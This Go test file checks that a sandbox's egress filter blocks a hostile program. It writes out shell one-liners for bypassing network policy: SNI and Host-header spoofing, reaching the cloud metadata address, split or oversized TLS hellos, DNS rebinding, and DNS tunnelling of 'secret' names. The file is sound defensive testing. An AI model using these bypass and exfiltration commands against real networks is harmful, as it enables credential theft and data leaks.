//go:build linux

package local_test

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"

	"github.com/arbe-dev/arbe/internal/outbound"
	"github.com/arbe-dev/arbe/internal/sandbox"
	"github.com/arbe-dev/arbe/internal/sandbox/local"
)

// recorded is an internet that records which hosts the server connects to. changing.test is public at first, and private
// afterwards.
type recorded struct {
	internet
	mu      sync.Mutex
	dialled map[string]int
}

func (r *recorded) dial(ctx context.Context, network, address string) (net.Conn, error) {
	r.mu.Lock()
	r.dialled[address]++
	n := r.dialled[address]
	r.mu.Unlock()
	if strings.HasPrefix(address, "changing.test:") {
		if n > 1 {
			return nil, &outbound.RefusedError{Address: "169.254.169.254:443"}
		}
		address = strings.Replace(address, "changing.test", "web.test", 1)
	}
	return r.internet.dial(ctx, network, address)
}

// helloFor returns the first record of a TLS client, in base64.
func helloFor(t *testing.T, name string) string {
	t.Helper()
	ours, theirs := net.Pipe()
	defer theirs.Close()
	defer ours.Close()
	go func() { _ = tls.Client(theirs, &tls.Config{ServerName: name}).Handshake() }()
	record := make([]byte, 5)
	if _, err := io.ReadFull(ours, record); err != nil {
		t.Fatal(err)
	}
	record = append(record, make([]byte, binary.BigEndian.Uint16(record[3:]))...)
	if _, err := io.ReadFull(ours, record[5:]); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(record)
}

// What a hostile program tries in order to reach a host that its policy does not list. None of it reaches other.test, an address
// that is not public, or a name server.
func TestAHostileProgramReachesOnlyWhatItsPolicyAllows(t *testing.T) {
	t.Parallel()
	hosts := &recorded{internet: newInternet(t), dialled: map[string]int{}}
	d := networked(t, local.Config{Dial: hosts.dial})
	t.Cleanup(func() {
		closeDriver(t, d)
		for address := range hosts.dialled {
			if host, _, _ := net.SplitHostPort(address); host != "web.test" && host != "inside.test" && host != "changing.test" {
				t.Errorf("the server connected to %s", address)
			}
		}
	})
	policy := listed
	policy.Hosts = append([]string{"changing.test"}, listed.Hosts...)
	box := create(t, d, sandbox.Spec{ID: "hostile", Egress: policy})
	web := func(to, request string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/%s/80; printf '%s' >&3; timeout 20 head -n1 <&3`, to, request)
	}
	hello := func(name, cut string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/web.test/443; echo %s | base64 -d | %s >&3; timeout 20 head -c7 <&3 | od -An -tx1`, helloFor(t, name), cut)
	}
	const denied, answered = "15 03 01 00 02 02 31", "16 03 03"
	for name, c := range map[string]struct{ script, says string }{
		"a server name that lies":                     {"curl -sSk --connect-to other.test:443:web.test:443 https://other.test/ 2>&1", "access denied"},
		"an allowed name at an address of its choice": {"curl -sSk --resolve web.test:443:93.184.216.34 https://web.test/", "this is web.test"},
		"another name there":                          {"curl -sSk --resolve other.test:443:93.184.216.34 https://other.test/ 2>&1", "access denied"},
		"an allowed name at the metadata service":     {"curl -sS --resolve web.test:80:169.254.169.254 http://web.test/", "this is web.test"},
		"an allowed name at a local address":          {"curl -sS --resolve web.test:80:10.0.0.1 http://web.test/", "this is web.test"},
		"an allowed name at an IPv6 address":          {"curl -sSk --resolve 'web.test:443:[2606:4700::1111]' https://web.test/ 2>&1", "this is web.test"},
		"another name at an IPv6 address":             {"curl -sSk --resolve 'other.test:443:[2606:4700::1111]' https://other.test/ 2>&1", "access denied"},
		"the metadata service by IPv6":                {"curl -sS 'http://[fd00:ec2::254]/latest/' 2>&1", "does not allow [fd00:ec2::254]:80"},
		"its address as a number":                     {"curl -sS http://2852039166/latest/ 2>&1", "does not allow 169.254.169.254:80"},
		"a hello in pieces":                           {hello("web.test", "perl -e 'binmode STDIN; $|=1; while (read STDIN, $b, 1) { syswrite STDOUT, $b }'"), answered},
		"the same with another name":                  {hello("other.test", "perl -e 'binmode STDIN; $|=1; while (read STDIN, $b, 1) { syswrite STDOUT, $b }'"), denied},
		"a hello behind an alert":                     {hello("other.test", `(printf '\x15\x03\x01\x00\x02\x01\x5a'; cat)`), denied},
		"a hello that is too large":                   {`exec 3<>/dev/tcp/web.test/443; perl -e 'print "\x16\x03\x01\x40\x00" . ($_ ? "" : "\x01\x01\x10\x00") . ("\0" x ($_ ? 16384 : 16380)) for 0..4' >&3; timeout 20 head -c7 <&3 | od -An -tx1`, denied},
		"a second request for another host":           {"curl -sS http://web.test/ -H 'Host: web.test' --next -sS -H 'Host: other.test' http://web.test/", "does not allow other.test:80"},
		"a request for another host's URL":            {web("web.test", `GET http://other.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n`), "403"},
		"two Hosts":                                   {web("web.test", `GET / HTTP/1.1\r\nHost: web.test\r\nHost: other.test\r\n\r\n`), "400"},
		"an allowed host as a proxy":                  {"curl -sS -p -x http://web.test:80 http://other.test/ 2>&1", "403"},
		"HTTP/2 with several hosts":                   {web("web.test", `PRI * HTTP/2.0\r\nHost: web.test\r\n\r\nSM\r\n\r\n`), "505"},
		"a change to HTTP/2":                          {web("web.test", `GET / HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n`), "200 OK"},
		"a name that becomes private":                 {"curl -sSk https://changing.test/; curl -sSk https://changing.test/ 2>&1", "this is changing.testcurl: (35)"},
		"a question with data":                        {`perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); for $type (1, 16, 10, 255) { send(S, "\0\1\1\0\0\1\0\0\0\0\0\0" . ("\77" . ("x" x 63)) x 3 . "\6tunnel\4test\0\0" . chr($type) . "\0\1", 0, sockaddr_in(53, inet_aton("8.8.8.8"))) or die $!; recv(S, $x, 4096, 0); print unpack("n", substr($x, 6, 2)), " " }'`, "1 0 0 0 "},
		"DNS over TLS":                                {`exec 3<>/dev/tcp/1.1.1.1/853; head -c1 <&3 2>&1`, "reset by peer"},
		"many names below a denied domain":            {`for i in $(seq 200); do getent ahostsv4 "secret$i.tunnel.test"; done | wc -l; curl -sS http://secret.tunnel.test/`, "does not allow secret.tunnel.test:80"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := sh(t, d, box, "exec bash -c '"+strings.ReplaceAll(c.script, "'", `'\''`)+"'"); !strings.Contains(got, c.says) {
				t.Errorf("the command printed %q, want %q", got, c.says)
			}
		})
	}
}
